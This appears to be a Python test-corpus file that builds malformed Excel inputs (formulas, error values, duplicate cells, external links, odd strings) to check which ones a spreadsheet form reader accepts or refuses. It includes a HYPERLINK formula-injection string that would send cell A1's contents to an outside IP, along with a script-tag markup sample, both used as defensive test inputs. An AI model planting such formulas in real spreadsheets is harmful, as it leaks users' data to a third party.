"""Inputs that hold something else than what was asked for. D33 holds 40, D57 holds 10, D6 the population."""

import re

from tests.corpus.base import (
    INPUT_PART,
    STRINGS,
    STYLES,
    UNIT_PART,
    Case,
    cell,
    content,
    form,
    member,
    members,
    reads,
    refused,
    replaced,
    with_cell,
)

INJECTION = '=HYPERLINK("http://192.0.2.1/?"&A1,"Xã Thử")'
MARKUP = "Xã <script>alert('&amp;')</script> ]]> & \"Thử\" [bold]"


def with_external_link(made: dict[str, bytes]) -> None:
    """An input fetched from another workbook, its last value stored."""
    made["xl/externalLinks/externalLink1.xml"] = b"<externalLink/>"
    formula = "<f>'[1]S\u1ed1 li\u1ec7u'!$A$1</f><v>40</v>"
    made[INPUT_PART] = with_cell(made[INPUT_PART], "D33", f'<c r="{{r}}" s="{{s}}">{formula}</c>')
    relation = (
        '<Relationship Id="rId99" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/'
        'externalLink" Target="externalLinks/externalLink1.xml"/></Relationships>'
    )
    rels = "xl/_rels/workbook.xml.rels"
    made[rels] = replaced("</Relationships>", relation)(made[rels])


def dated(data: bytes) -> bytes:
    """Every cell format shows a date."""
    return re.sub(rb' numFmtId="\d+" fontId', b' numFmtId="14" fontId', data)


def value(xml: str, attributes: str = "") -> str:
    return f'<c r="{{r}}" s="{{s}}"{attributes}>{xml}</c>'


CASES: tuple[Case, ...] = (
    reads("công-thức.xlsx", cell("D33", value("<f>20+20</f><v>40</v>"))),
    refused("công-thức-chưa-tính.xlsx", cell("D33", value("<f>20+20</f>")), "CFC-006", "CFC-111"),
    refused("lỗi-chia-không.xlsx", cell("D33", value("<v>#DIV/0!</v>", ' t="e"')), "CFC-006", "CFC-103"),
    refused("lỗi-na.xlsx", cell("D33", value("<f>NA()</f><v>#N/A</v>", ' t="e"')), "CFC-006", "CFC-103"),
    refused("đúng-sai.xlsx", cell("D33", value("<v>1</v>", ' t="b"')), "CFC-006", "CFC-105"),
    refused("1e308.xlsx", cell("D33", value("<v>1E308</v>")), "CFC-006", "CFC-108"),
    refused("1e999.xlsx", cell("D33", value("<v>1E999</v>")), "CFC-006", "CFC-103"),
    refused("nan.xlsx", cell("D33", value("<v>NaN</v>")), "CFC-006", "CFC-103"),
    reads("âm-không.xlsx", cell("D25", value("<v>-0</v>"))),
    refused("số-âm.xlsx", cell("D33", value("<v>-1</v>")), "CFC-006", "CFC-106"),
    refused("số-lẻ.xlsx", cell("D33", value("<v>40.5</v>")), "CFC-006", "CFC-107"),
    reads("số-gần-nguyên.xlsx", cell("D33", value("<v>4E1</v>"))),
    refused("chữ.xlsx", cell("D33", value("<is><t>bốn mươi</t></is>", ' t="inlineStr"')), "CFC-006", "CFC-104"),
    refused("số-viết-chữ.xlsx", cell("D33", value("<v>40</v>", ' t="str"')), "CFC-006", "CFC-104"),
    refused("ngày-iso.xlsx", cell("D33", value("<v>2026-11-23</v>", ' t="d"')), "CFC-006", "CFC-110"),
    refused("để-trống.xlsx", cell("D33", '<c r="{r}" s="{s}"/>'), "CFC-006", "CFC-101"),
    refused("chỉ-dấu-cách.xlsx", cell("D33", value("<v>  </v>", ' t="str"')), "CFC-006", "CFC-104"),
    refused("chuỗi-không-có.xlsx", cell("D33", value("<v>99999</v>", ' t="s"')), "CFC-001"),
    refused("chuỗi-âm.xlsx", cell("D33", value("<v>-1</v>", ' t="s"')), "CFC-001"),
    refused("ô-có-hai-lần.xlsx", cell("D33", value("<v>40</v>") + '<c r="D33"><v>41</v></c>'), "CFC-001"),
    refused("địa-chỉ-lạ.xlsx", cell("D33", '<c r="Đ33"><v>40</v></c>'), "CFC-006", "CFC-101"),
    reads("không-địa-chỉ.xlsx", cell("D33", '<c s="{s}"><v>40</v></c>')),
    reads("kiểu-không-có.xlsx", cell("D33", '<c r="{r}" s="99999"><v>40</v></c>')),
    reads("cdata.xlsx", cell("D33", value("<v><![CDATA[40]]></v>"))),
    reads("chú-thích-xml.xlsx", cell("D33", '<!-- <c r="D33"><v>41</v></c> -->' + value("<v>40</v>"))),
    reads("liên-kết-ngoài.xlsx", members(with_external_link)),
    refused("mọi-ô-là-ngày.xlsx", member(STYLES, dated), "CFC-006", "CFC-110", "CFC-311"),
    reads("tên-là-công-thức.xlsx", content(lambda: form(ten_don_vi=INJECTION))),
    reads("tên-có-thẻ-xml.xlsx", content(lambda: form(ten_don_vi=MARKUP))),
    reads("tên-rất-dài.xlsx", content(lambda: form(ten_don_vi="Xã " + "Ỷ" * 30_000))),
    reads("tên-nửa-ký-tự.xlsx", member(STRINGS, replaced("Xã Thử", "Xã _xD83D_Thử_xD83D__xDE00_"))),
    refused("tên-có-ký-tự-cấm.xlsx", member(STRINGS, replaced("Xã Thử", "Xã \x01Thử")), "CFC-001"),
    reads("tên-là-công-thức-thật.xlsx", member(UNIT_PART, lambda data: with_cell(
        data, "C4", '<c r="{r}" s="{s}" t="str"><f>CONCATENATE("Xã ","Thử")</f><v>Xã Thử</v></c>'))),
)  # fmt: skip
